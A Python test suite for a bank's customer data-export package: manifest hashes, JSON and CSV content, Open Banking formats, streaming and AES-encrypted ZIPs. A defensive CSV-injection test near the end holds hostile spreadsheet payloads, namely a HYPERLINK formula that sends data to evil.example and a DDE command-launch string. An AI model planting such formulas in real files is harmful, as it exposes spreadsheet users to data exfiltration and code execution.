"""The data-portability package: unzipped and checked against its manifest (SHA-256, size,
record count), JSON and CSV compared with the source records, formats of amounts and
timestamps, validation of the spec, streaming (records pulled lazily), no screening match
details or check outcomes, and AES-256 encryption decrypted independently of the writer."""
from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import re
import struct
import zipfile
import zlib
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import pytest
from Crypto.Cipher import AES
from Crypto.Util import Counter
from pydantic import ValidationError

from chalicelib.domain.closure import Account, Counterparty, Direction, Transaction
from chalicelib.domain.customer import CustomerRecord
from chalicelib.domain.export_package import (
    CSV_COLUMNS,
    MANIFEST,
    README,
    ExportSpec,
    account_record,
    build_package,
    kyc_record,
    profile_record,
    screening_summary_records,
    transaction_record,
)
from chalicelib.domain.models import (
    Address,
    Applicant,
    CheckResult,
    DocumentType,
    IdentityDocument,
    VerificationResult,
)
from chalicelib.domain.screening.entities import EntityType, ListKind, NameKind
from chalicelib.domain.screening.engine import Band, Match, NameScores
from chalicelib.domain.screening.result import ScreeningResult, SubjectScreening

UTC_Z = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")
OB_AMOUNT = re.compile(r"^\d{1,13}$|^\d{1,13}\.\d{1,5}$")  # OBActiveCurrencyAndAmount_SimpleType
ALL_SECTIONS = ("profile", "kyc", "accounts", "transactions", "consents", "screening_summary")
CUSTOMER = "cus_0123456789abcdef0123456789abcdef"
NAMES = ("Zoë Müller", 'ACME, "Ltd"', "Line\nBreak Ltd", "Ørsted A/S", "北京商店")
AMOUNTS = (Decimal("0.01"), Decimal("12.50"), Decimal("1E+2"), Decimal("1234567.89"), Decimal("7"))


def _spec(**changes: Any) -> ExportSpec:
    fields: dict[str, Any] = dict(export_id="exp_1", customer_id=CUSTOMER,
                                  created_at=datetime(2026, 3, 1, 12, 0, tzinfo=UTC), formats=["json", "csv"],
                                  include=list(ALL_SECTIONS), generator_version="export/1.0.0")
    return ExportSpec(**(fields | changes))


def _transactions(count: int = 1000) -> list[Transaction]:
    start = datetime(2024, 1, 1, 9, 30, tzinfo=timezone(timedelta(hours=2)))
    return [Transaction(
        transaction_id=f"tx{i:05d}",
        booked_at=start + timedelta(hours=7 * i, microseconds=123456),
        amount=AMOUNTS[i % len(AMOUNTS)],
        currency="EUR" if i % 4 == 0 else "GBP",
        direction=Direction.CREDIT if i % 3 == 0 else Direction.DEBIT,
        counterparty=Counterparty(name=NAMES[i % len(NAMES)],
                                  iban=None if i % 5 == 0 else f"GB{i % 97:02d}BUKB2020155555{i:04d}"),
    ) for i in range(count)]


ACCOUNTS = (Account(account_id="acc-1", balance=Decimal("-250.75"), currency="GBP", holders=(CUSTOMER,)),
            Account(account_id="acc-2", balance=Decimal("0"), currency="EUR", holders=(CUSTOMER, "cus_other")))

CUSTOMER_RECORD = CustomerRecord(
    customer_id=CUSTOMER, created_at="2023-05-04T10:00:00.000Z", onboarding_checkpoint_id="chk_1",
    owner="web",
    profile=Applicant(given_names="Zoë", family_name="Müller", birth_date=date(1990, 2, 3), nationality="DEU",
                      email="zoe@example.org", phone="+441234567890",
                      address=Address(line1="1 High St", city="London", postal_code="N1 1AA", country="GBR")),
    document=IdentityDocument(type=DocumentType.PASSPORT, number="C01X00T47", issuing_country="DEU",
                              expiry_date=date(2031, 1, 1)),
    verification=VerificationResult(provider="docscan", checks=(
        CheckResult(code="document_face_match", passed=False, detail="SECRET-CHECK-DETAIL"),)),
    screening_result_key="checkpoints/chk_1/results/screening.json",
    list_versions={"ofac-sdn": "2023-05-01"}, policy_version="1",
)

SCREENING = ScreeningResult(
    engine="exact/1", screened_at="2023-05-04T09:59:58.120+01:00",
    list_versions={"ofac-sdn": "2023-05-01", "eu-fsf": "2023-04-30"},
    subjects=(SubjectScreening(subject="applicant", matches=(Match(
        source="ofac-sdn", list_version="2023-05-01", source_id="SECRET-ENTRY-123", kind=ListKind.SANCTIONS,
        entity_type=EntityType.PERSON, primary_name="SECRET PRIMARY NAME", matched_name="SECRET MATCHED NAME",
        name_kind=NameKind.WEAK_ALIAS, score=0.91, band=Band.REVIEW, rule="weak alias: review at most",
        name_scores=NameScores(token_pairs=0.9, token_sort=0.9, token_set=0.95, name=0.91, tokens_paired=2,
                               listed_tokens=3)),)),),
    checks=(CheckResult(code="sanctions_match", passed=False, detail="SECRET-SCREENING-DETAIL"),),
)

CONSENTS = ({"ConsentId": "c-1", "Purpose": "marketing_email", "GivenAt": "2023-05-04T10:00:00.000Z",
             "Withdrawn": True, "Channels": ["email", "sms"]},)


def _sources(transactions: list[Transaction]) -> dict[str, Any]:
    return {
        "profile": lambda: [profile_record(CUSTOMER_RECORD)],
        "kyc": lambda: [kyc_record(CUSTOMER_RECORD)],
        "accounts": lambda: (account_record(a) for a in ACCOUNTS),
        "transactions": lambda: (transaction_record(t, "acc-1") for t in transactions),
        "consents": lambda: iter(CONSENTS),
        "screening_summary": lambda: screening_summary_records(SCREENING),
    }


def _flat(record: dict[str, Any], prefix: str = "") -> dict[str, str]:
    """What a CSV row should read for a record (independent of the module's own flattening)."""
    out: dict[str, str] = {}
    for key, value in record.items():
        if isinstance(value, dict):
            out |= _flat(value, f"{prefix}{key}.")
        elif isinstance(value, list):
            out[f"{prefix}{key}"] = json.dumps(value, ensure_ascii=False, separators=(",", ":"))
        elif isinstance(value, bool):
            out[f"{prefix}{key}"] = str(value).lower()
        else:
            out[f"{prefix}{key}"] = "" if value is None else str(value)
    # A text cell a spreadsheet would read as a formula is written with a leading quote (OWASP).
    return {k: "'" + v if v[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?\d+(\.\d+)?", v)
            else v for k, v in out.items()}


def _csv_rows(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def _no_floats(text: str) -> Any:
    def reject(value: str) -> Any:
        raise AssertionError(f"a JSON float in the package: {value}")
    return json.loads(text, parse_float=reject)


@pytest.fixture(scope="module")
def transactions() -> list[Transaction]:
    return _transactions()


@pytest.fixture(scope="module")
def archive(transactions: list[Transaction]) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(b"".join(build_package(_spec(), _sources(transactions)))))


def test_every_file_matches_the_manifest(archive: zipfile.ZipFile) -> None:
    assert archive.testzip() is None  # every member's CRC checks out
    manifest = json.loads(archive.read(MANIFEST))
    assert archive.namelist()[-1] == MANIFEST
    assert {k: manifest[k] for k in ("export_id", "customer_id", "created_at", "generator_version")} == {
        "export_id": "exp_1", "customer_id": CUSTOMER, "created_at": "2026-03-01T12:00:00.000Z",
        "generator_version": "export/1.0.0"}
    listed = [f["name"] for f in manifest["files"]]
    assert listed == archive.namelist()[:-1]
    assert listed == [f"{s}.{fmt}" for s in ALL_SECTIONS for fmt in ("json", "csv")] + [README]
    for entry in manifest["files"]:
        data = archive.read(entry["name"])
        assert entry["bytes"] == len(data) == archive.getinfo(entry["name"]).file_size
        assert entry["sha256"] == hashlib.sha256(data).hexdigest()
        if entry["name"].endswith(".json"):
            assert entry["media_type"] == "application/json"
            assert entry["records"] == len(_no_floats(data.decode()))
        elif entry["name"].endswith(".csv"):
            assert entry["media_type"] == "text/csv; charset=utf-8"
            assert entry["records"] == len(_csv_rows(data)[1])
        else:
            assert entry["media_type"] == "text/plain; charset=utf-8" and entry["records"] is None
    counts = {f["name"]: f["records"] for f in manifest["files"]}
    assert counts["transactions.json"] == counts["transactions.csv"] == 1000
    assert counts["accounts.json"] == 2 and counts["screening_summary.csv"] == 2


def test_json_and_csv_hold_the_source_records(archive: zipfile.ZipFile, transactions: list[Transaction]) -> None:
    expected = {
        "profile": [profile_record(CUSTOMER_RECORD)],
        "kyc": [kyc_record(CUSTOMER_RECORD)],
        "accounts": [account_record(a) for a in ACCOUNTS],
        "transactions": [transaction_record(t, "acc-1") for t in transactions],
        "consents": list(CONSENTS),
        "screening_summary": list(screening_summary_records(SCREENING)),
    }
    for section, records in expected.items():
        assert _no_floats(archive.read(f"{section}.json").decode()) == records, section
        header, rows = _csv_rows(archive.read(f"{section}.csv"))
        assert header == list(CSV_COLUMNS.get(section, records[0].keys())), section
        assert rows == [{c: _flat(r).get(c, "") for c in header} for r in records], section


def test_transactions_follow_the_open_banking_names(archive: zipfile.ZipFile) -> None:
    first, second = _no_floats(archive.read("transactions.json").decode())[:2]
    assert first == {  # tx00000: credit, 0.01 EUR, no IBAN; booked 09:30+02:00
        "AccountId": "acc-1", "TransactionId": "tx00000", "BookingDateTime": "2024-01-01T07:30:00.123Z",
        "Status": "BOOK", "CreditDebitIndicator": "Credit", "Amount": {"Amount": "0.01", "Currency": "EUR"},
        "DebtorAccount": {"Name": "Zoë Müller"}}
    assert second["CreditDebitIndicator"] == "Debit" and "DebtorAccount" not in second
    assert second["CreditorAccount"] == {"SchemeName": "UK.OBIE.IBAN", "Identification": "GB01BUKB20201555550001",
                                         "Name": 'ACME, "Ltd"'}
    accounts = _no_floats(archive.read("accounts.json").decode())
    assert accounts == [
        {"AccountId": "acc-1", "Currency": "GBP",
         "Balance": {"Amount": {"Amount": "250.75", "Currency": "GBP"}, "CreditDebitIndicator": "Debit"}},
        {"AccountId": "acc-2", "Currency": "EUR",
         "Balance": {"Amount": {"Amount": "0", "Currency": "EUR"}, "CreditDebitIndicator": "Credit"}}]
    assert "cus_other" not in archive.read("accounts.csv").decode()  # joint holders are not named


def test_amounts_are_decimal_strings_and_timestamps_utc_z(archive: zipfile.ZipFile,
                                                          transactions: list[Transaction]) -> None:
    records = _no_floats(archive.read("transactions.json").decode())
    _, rows = _csv_rows(archive.read("transactions.csv"))
    for tx, record, row in zip(transactions, records, rows, strict=True):
        for amount, currency, booked in ((record["Amount"]["Amount"], record["Amount"]["Currency"],
                                          record["BookingDateTime"]),
                                         (row["Amount.Amount"], row["Amount.Currency"], row["BookingDateTime"])):
            assert OB_AMOUNT.match(amount) and Decimal(amount) == tx.amount and currency == tx.currency
            assert UTC_Z.match(booked)
            assert datetime.fromisoformat(booked) == tx.booked_at.replace(microsecond=123000)
    assert {r["Amount"]["Amount"] for r in records[:5]} == {"0.01", "12.50", "100", "1234567.89", "7"}
    profile = _no_floats(archive.read("profile.json").decode())[0]
    assert profile["CustomerSince"] == "2023-05-04T10:00:00.000Z" and profile["BirthDate"] == "1990-02-03"
    summary = _no_floats(archive.read("screening_summary.json").decode())
    assert {s["CheckedAt"] for s in summary} == {"2023-05-04T08:59:58.120Z"}


def test_no_screening_matches_or_check_outcomes(archive: zipfile.ZipFile) -> None:
    assert _no_floats(archive.read("screening_summary.json").decode()) == [
        {"List": "eu-fsf", "ListVersion": "2023-04-30", "CheckedAt": "2023-05-04T08:59:58.120Z"},
        {"List": "ofac-sdn", "ListVersion": "2023-05-01", "CheckedAt": "2023-05-04T08:59:58.120Z"}]
    everything = b"".join(archive.read(n) for n in archive.namelist()).decode()
    for secret in ("SECRET", "sanctions_match", "document_face_match", "0.91", "weak_alias"):
        assert secret not in everything


def test_readme_explains_every_file(archive: zipfile.ZipFile) -> None:
    readme = archive.read(README).decode()
    for name in archive.namelist():
        if name != README:
            assert name in readme
    assert "UTC" in readme and "SHA-256" in readme and CUSTOMER in readme


def test_only_the_requested_sections_and_formats() -> None:
    spec = _spec(formats=["csv"], include=["transactions", "accounts"])
    names = zipfile.ZipFile(io.BytesIO(b"".join(build_package(spec, _sources(_transactions(3)))))).namelist()
    assert names == ["accounts.csv", "transactions.csv", README, MANIFEST]  # canonical order


def test_an_empty_section_still_has_its_files() -> None:
    spec = _spec(include=["transactions"])
    archive = zipfile.ZipFile(io.BytesIO(b"".join(build_package(spec, {"transactions": lambda: iter(())}))))
    assert archive.read("transactions.json") == b"[]\n"
    assert archive.read("transactions.csv").decode() == ",".join(CSV_COLUMNS["transactions"]) + "\r\n"
    assert [f["records"] for f in json.loads(archive.read(MANIFEST))["files"]] == [0, 0, None]


def test_a_record_with_an_unknown_column_fails_the_export() -> None:
    consents = [{"ConsentId": "c-1"}, {"ConsentId": "c-2", "Surprise": "x"}]
    stream = build_package(_spec(formats=["csv"], include=["consents"]), {"consents": lambda: iter(consents)})
    with pytest.raises(ValueError, match="Surprise"):
        b"".join(stream)


@pytest.mark.parametrize("changes", [
    {"include": []},
    {"include": ["transactions", "sar_reports"]},
    {"formats": []},
    {"formats": ["json", "xml"]},
    {"created_at": datetime(2026, 3, 1, 12, 0)},  # naive
    {"export_id": ""},
    {"risk_score": 7},  # unknown field
])
def test_a_bad_spec_is_rejected(changes: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        _spec(**changes)


def test_the_spec_is_normalised() -> None:
    spec = _spec(formats=["csv", "json", "csv"], include=["transactions", "profile"],
                 created_at=datetime(2026, 3, 1, 14, 0, tzinfo=timezone(timedelta(hours=2))))
    assert spec.formats == ("json", "csv") and spec.include == ("profile", "transactions")
    assert spec.created_at == datetime(2026, 3, 1, 12, 0, tzinfo=UTC) and spec.created_at.tzinfo is UTC


def test_a_missing_source_or_empty_passphrase_fails_before_streaming() -> None:
    with pytest.raises(ValueError, match="kyc"):
        build_package(_spec(include=["profile", "kyc"]), {"profile": lambda: iter(())})
    with pytest.raises(ValueError, match="passphrase"):
        build_package(_spec(include=["profile"]), {"profile": lambda: iter(())}, passphrase="")


def _bulk(pulled: list[int], fail_after: int | None = None) -> Iterator[dict[str, Any]]:
    """Distinct records (they compress little), counting how many were pulled."""
    for i in range(100_000):
        if i == fail_after:
            raise RuntimeError("source failed")
        pulled[0] += 1
        yield transaction_record(Transaction(
            transaction_id=hashlib.sha256(str(i).encode()).hexdigest(), booked_at=datetime(2024, 1, 1, tzinfo=UTC),
            amount=Decimal(i) / 100, currency="GBP", direction=Direction.DEBIT,
            counterparty=Counterparty(name=hashlib.md5(str(i).encode()).hexdigest())))


def _take(stream: Iterator[bytes], size: int) -> int:
    """Read at least `size` bytes of the archive; how many were read."""
    received = 0
    for chunk in stream:
        received += len(chunk)
        if received >= size:
            break
    return received


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_records_are_pulled_lazily(fmt: str) -> None:
    pulled = [0]
    stream = build_package(_spec(formats=[fmt], include=["transactions"]), {"transactions": lambda: _bulk(pulled)})
    assert pulled[0] == 0  # nothing read before the first chunk is asked for
    assert _take(stream, 256 * 1024) >= 256 * 1024
    assert 0 < pulled[0] < 10_000  # 256 KiB of archive out for a small fraction of the 100,000 records


def test_a_source_failing_midway_fails_the_stream_after_the_first_chunks() -> None:
    pulled = [0]
    stream = build_package(_spec(formats=["csv"], include=["transactions"]),
                           {"transactions": lambda: _bulk(pulled, fail_after=20_000)})
    assert _take(stream, 256 * 1024) >= 256 * 1024 and pulled[0] < 20_000  # bytes flowed before it broke
    with pytest.raises(RuntimeError, match="source failed"):
        _take(stream, 1 << 62)


def _decrypt_aes(data: bytes, info: zipfile.ZipInfo, passphrase: str) -> bytes:
    """A WinZip AE-2 (AES-256) member decrypted from the spec, not with the writer's code."""
    assert info.flag_bits & 0x1 and info.compress_type == 99  # encrypted, AES marker
    tag, size, version, vendor, strength, method = struct.unpack("<HHH2sBH", info.extra[-11:])
    assert (tag, size, version, vendor, strength, method) == (0x9901, 7, 2, b"AE", 3, zlib.DEFLATED)
    name_length, extra_length = struct.unpack("<HH", data[info.header_offset + 26:info.header_offset + 30])
    start = info.header_offset + 30 + name_length + extra_length
    body = data[start:start + info.compress_size]
    salt, verifier, encrypted, mac = body[:16], body[16:18], body[18:-10], body[-10:]
    keys = hashlib.pbkdf2_hmac("sha1", passphrase.encode(), salt, 1000, 66)
    if keys[64:] != verifier or hmac.new(keys[32:64], encrypted, "sha1").digest()[:10] != mac:
        raise ValueError("wrong passphrase")  # the 2-byte verifier alone lets 1 in 65,536 through
    counter = Counter.new(128, initial_value=1, little_endian=True)
    return zlib.decompress(AES.new(keys[:32], AES.MODE_CTR, counter=counter).decrypt(encrypted), -zlib.MAX_WBITS)


# stream-zip derives the AE-2 keys with pycryptodome's PBKDF2 defaults (HMAC-SHA1, as the format
# requires); pycryptodome 4.4 warns that those defaults will have to be passed explicitly.
@pytest.mark.filterwarnings("ignore:PBKDF2 without:DeprecationWarning")
def test_the_package_can_be_aes_encrypted() -> None:
    spec = _spec(include=["transactions"], formats=["json"])
    transactions = _transactions(50)
    data = b"".join(build_package(spec, _sources(transactions), passphrase="correct horse battery staple"))
    archive = zipfile.ZipFile(io.BytesIO(data))
    with pytest.raises(RuntimeError):  # the standard library cannot read it without the key
        archive.read(MANIFEST)
    files = {i.filename: _decrypt_aes(data, i, "correct horse battery staple") for i in archive.infolist()}
    manifest = json.loads(files.pop(MANIFEST))
    for entry in manifest["files"]:
        assert hashlib.sha256(files[entry["name"]]).hexdigest() == entry["sha256"]
    assert json.loads(files["transactions.json"]) == [transaction_record(t, "acc-1") for t in transactions]
    assert b"tx00000" not in data and "Zoë".encode() not in data
    with pytest.raises(ValueError, match="wrong passphrase"):
        _decrypt_aes(data, archive.getinfo(MANIFEST), "wrong")


def test_signed_amounts_and_naive_timestamps_are_refused() -> None:
    tx = _transactions(1)[0]
    with pytest.raises(ValueError, match="signed"):
        transaction_record(tx.model_copy(update={"amount": Decimal("-1.00")}))
    with pytest.raises(ValueError, match="time zone"):
        transaction_record(tx.model_copy(update={"booked_at": datetime(2024, 1, 1)}))
    with pytest.raises(ValueError, match="finite"):
        transaction_record(tx.model_copy(update={"amount": Decimal("NaN")}))


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(trigger):
    hostile = {"=": '=HYPERLINK("http://evil.example/?d="&C2,"click")', "+": "+Smith", "-": "-2+3", "@": "@SUM(1+1)",
               "\t": "\t=1+1", "\r": "\r=1+1"}[trigger]
    customer = CUSTOMER_RECORD.model_copy(update={"profile": CUSTOMER_RECORD.profile.model_copy(
        update={"given_names": hostile, "family_name": "Müller"})})
    spec = _spec(formats=("csv",), include=("profile", "transactions"))
    tx = Transaction(transaction_id="t-1", booked_at=datetime(2026, 11, 1, tzinfo=UTC), amount=Decimal("12.50"),
                     currency="EUR", direction=Direction.DEBIT, counterparty=Counterparty(name="=cmd|' /C calc'!A0"))
    archive = zipfile.ZipFile(io.BytesIO(b"".join(build_package(spec, {
        "profile": lambda: [profile_record(customer)], "transactions": lambda: [transaction_record(tx)]}))))
    _, [profile] = _csv_rows(archive.read("profile.csv"))
    assert profile["GivenNames"] == "'" + hostile and profile["FamilyName"] == "Müller"
    _, [row] = _csv_rows(archive.read("transactions.csv"))
    assert row["CreditorAccount.Name"] == "'=cmd|' /C calc'!A0"
    assert row["Amount.Amount"] == "12.50"  # numbers stay numbers


@pytest.mark.parametrize("value", ["-12.50", "-3", "0.99", "2026-11-01T00:00:00Z", "Smith-Jones", "a=b"])
def test_numbers_and_ordinary_text_are_left_as_they_are(value):
    from chalicelib.domain.spreadsheet import safe_cell

    assert safe_cell(value) == value
